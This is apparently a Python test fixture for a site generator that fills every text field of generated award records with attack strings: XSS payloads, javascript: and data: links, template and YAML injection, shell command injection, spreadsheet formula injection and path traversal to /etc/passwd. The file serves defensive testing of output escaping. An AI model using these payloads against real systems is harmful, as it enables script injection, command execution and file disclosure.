"""Texts that attack, and records of every kind with such texts in every field that takes one."""

from collections.abc import Iterable, Iterator
from itertools import cycle
from types import NoneType, UnionType
from typing import Annotated, Any, Literal, Union, get_args, get_origin
from urllib.parse import quote

from pydantic import BaseModel, StringConstraints

from generator.model import KINDS
from generator.model.base import (
    Clock,
    Codelist,
    File,
    Id,
    Markdown,
    Reference,
    VillageId,
    WebAddress,
)
from generator.values import PartialDate, Quantity, Yuan

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//example.org/x.js></script>",
    "<script >alert(1)</script\t>",
    "<<script>script>alert(1)<</script>/script>",
    '<script type="module">import "//example.org/x.js"</script>',
    "</script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
_HANDLERS = (
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "</title><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "{: onclick=alert(1) }",
    "x{: .y onclick='alert(1)'}",
    "**粗**{: onclick=alert(1) }",
    "<b style=animation-name:x onanimationstart=alert(1)>",
)
_ADDRESSES = (
    "[按我](javascript:alert(1))",
    "[按我](JaVaScRiPt:alert(1))",
    "[按我](java&#115;cript:alert(1))",
    "[按我](java\tscript:alert(1))",
    "[按我](&#x6A;avascript:alert(1))",
    "[按我](data:text/html,<script>alert(1)</script>)",
    "[按我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[按我](vbscript:msgbox(1))",
    "[按我](file:///etc/passwd)",
    "[按我](//example.org/x)",
    "[按我](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)",
    "[按我][y] [y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<https://example.org/x>",
    "https://example.org/x",
    "www.example.org",
    "<a href=javascript:alert(1)>按我</a>",
    "<form action=javascript:alert(1)><button>按我</button></form>",
)
_LOADS = (
    "![图](https://example.org/track.png)",
    "![图](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![图](x "onerror=alert(1)")',
    "![图][z] [z]: https://example.org/track.png",
    "</textarea><iframe src=//example.org></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//example.org/x></object>",
    "<embed src=//example.org/x>",
    "<link rel=stylesheet href=//example.org/x.css>",
    "<style>@import '//example.org/x.css';</style>",
    '<p style="background:url(//example.org/x.png)">',
    "<base href=//example.org/>",
    '<meta http-equiv=refresh content="0;url=//example.org/">',
    "<img src=//example.org/x.png srcset=//example.org/y.png>",
    "<video poster=//example.org/x.png></video>",
    "<template><img src=x onerror=alert(1)></template>",
)
_MARKUP = (
    "| a | b |",
    "`code` **粗** _斜_ ~~删~~",
    "# 标题",
    "1. 一",
    "- 项",
    "> 引",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "]]> --> </article></body>",
    "<!-- x",
    "<![CDATA[ x ]]>",
    "<?php echo 1 ?>",
    "*[HTML]: x",
    "[^1]: 注",
    "\\`\\*\\[ \\\\",
    "--- ... ::: /// === ~~~",
    "!!! note",
    "```",
    "    缩进",
    "[TOC]",
    '--8<-- "/etc/passwd"',
    "a  \\",
    "<div markdown=1>x</div>",
)
_TEMPLATES = (
    "{{ config }} {% raw %} {# #}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{% endraw %}{{ config.site_name }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    "%(title)s %s {title} {0}",
    "!!python/object/apply:os.system [id]",
    "$(id) `id` ; id | id && id",
    "\\N{BULLET} \\x41 \\1 \\g<0>",
)
_SIGNS = (
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
    "𠮷野家😀👨\u200d👩\u200d👧",
    "长" * 200,
    "x" * 200,
)
_FORMULAS = (
    '=HYPERLINK("https://example.org/"&A1,"按我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1＋1",
    "'=1+1",
    '";=1+1;"',
    '=IMPORTXML("https://example.org/","//a")',
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
)

ATTACKS = (
    *_SCRIPTS,
    *_HANDLERS,
    *_ADDRESSES,
    *_LOADS,
    *_MARKUP,
    *_TEMPLATES,
    *_SIGNS,
    *_FORMULAS,
)


REFUSED = (
    "公示\u202e)1(trela\u202c完",
    "甲\u2066乙\u2069丙",
    "丙\u200f丁",
    "零\u200b宽",
    "字\ufeff符",
)
"""Signs that turn or hide what stands beside them: no record with one is loaded."""

EACH = 31
"""Records of a kind. Their fields take the attacks in turn, so that a kind has them all."""


def records(attacks: Iterable[str]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Paths below content/ and records of every kind (of both families of awards)."""
    for kind in KINDS:
        models = get_args(next(iter(get_args(kind.model)), None)) or (kind.model,)
        for model, letter in zip(models, "ab", strict=False):
            texts = cycle(attacks)
            for number in range(1, EACH + 1):
                yield f"jia/{kind.folder}/{letter}{number}.yml", _model(model, texts, number)


def _model(model: type[BaseModel], texts: Iterator[str], number: int) -> dict[str, Any]:
    made = {}
    for name, field in model.model_fields.items():
        hint = Annotated[field.annotation, *field.metadata] if field.metadata else field.annotation
        value = _value(hint, texts, number)
        if value is not None and name not in ("draft", "attachments"):
            made[field.alias or name] = value
    return made


def _value(hint: Any, texts: Iterator[str], number: int) -> Any:  # noqa: ANN401 - any type's value
    """A value of the type; None for what is left out."""
    marks: tuple[Any, ...] = ()
    while get_origin(hint) is Annotated:
        hint, *more = get_args(hint)
        marks = (*more, *marks)
    origin = get_origin(hint)
    if origin in (Union, UnionType):
        kinds = [each for each in get_args(hint) if each is not NoneType]
        return _value(Annotated[kinds[0], *marks] if marks else kinds[0], texts, number)
    if origin is tuple:
        inner = get_args(hint)[0]
        bare = get_args(inner)[0] if get_origin(inner) is Annotated else inner
        kinds = get_args(bare) if get_origin(bare) in (Union, UnionType) else (inner,)
        values = [_value(each, texts, number) for each in kinds]
        return [each for each in values if each is not None] or None
    if origin is Literal:
        return get_args(hint)[0].value
    if issubclass(hint, BaseModel):
        return _model(hint, texts, number)
    if issubclass(hint, Codelist):
        return next(iter(hint)).value
    return _plain(hint, marks, texts, number)


def _plain(hint: Any, marks: tuple[Any, ...], texts: Iterator[str], number: int) -> str | None:  # noqa: ANN401
    if hint is str:
        return _text(marks, texts, number)
    return {Yuan: "100", PartialDate: "2025-01-01", Quantity: "3", int: str(number)}.get(hint)


def _text(marks: tuple[Any, ...], texts: Iterator[str], number: int) -> str | None:
    if any(isinstance(mark, VillageId) for mark in marks):
        return "dong"
    if any(isinstance(mark, (Reference, File)) for mark in marks):
        return None
    if any(isinstance(mark, Markdown) for mark in marks):
        attack = next(texts)
        return f"{attack}\n\n> {attack}\n\n- {attack}\n\n文 {attack} 文\n"
    patterns = [mark.pattern for mark in marks if isinstance(mark, StringConstraints)]
    if _pattern(WebAddress) in patterns:
        return f"https://example.org/{quote(ATTACKS[number * 4 % len(ATTACKS)], safe=_HARSH)}"
    if _pattern(Id) in patterns:
        return None
    return "19:00-21:00" if Clock.__metadata__[0] in marks else next(texts)


_HARSH = "()[]{}*_`|!&;=:@$,+~#?/"
"""Signs that an address may have and that Markdown or HTML might read."""


def _pattern(hint: Any) -> str:  # noqa: ANN401 - an annotated text
    return str(hint.__metadata__[0].pattern)
